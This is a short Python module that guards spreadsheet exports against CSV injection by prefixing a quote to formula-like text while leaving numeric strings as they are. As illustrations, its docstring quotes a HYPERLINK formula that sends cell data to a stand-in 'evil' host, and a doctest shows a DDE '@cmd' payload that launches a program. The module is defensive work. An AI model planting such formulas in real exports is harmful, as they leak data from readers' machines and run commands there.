"""Cells of files people open in a spreadsheet: text that would run as a formula.

A spreadsheet reads a cell starting with ``=``, ``+``, ``-`` or ``@`` (and, in some, a tab
or carriage return before one) as a formula, so a CRM value such as
``=HYPERLINK("http://evil/?"&A1)`` in an export would run on the reader's machine
("CSV injection"). Such text gets a leading ``'``, which spreadsheets show as text.
Numbers stay numbers: a number value, or text that is exactly a number (``-12.5``,
``+3e4``), cannot be a formula and is left as it is, so amounts keep their sign.
"""

from __future__ import annotations

import re
from typing import TypeVar

T = TypeVar("T")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def spreadsheet_safe(value: T) -> T | str:
    """`value`, with a leading ``'`` when it is text a spreadsheet would run as a formula.

    Examples:
        >>> spreadsheet_safe("=SUM(A1:A9)")
        "'=SUM(A1:A9)"
        >>> spreadsheet_safe("@cmd|'/c calc'!A0")
        "'@cmd|'/c calc'!A0"
        >>> spreadsheet_safe("-12.5"), spreadsheet_safe(-12.5), spreadsheet_safe("Acme")
        ('-12.5', -12.5, 'Acme')
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value
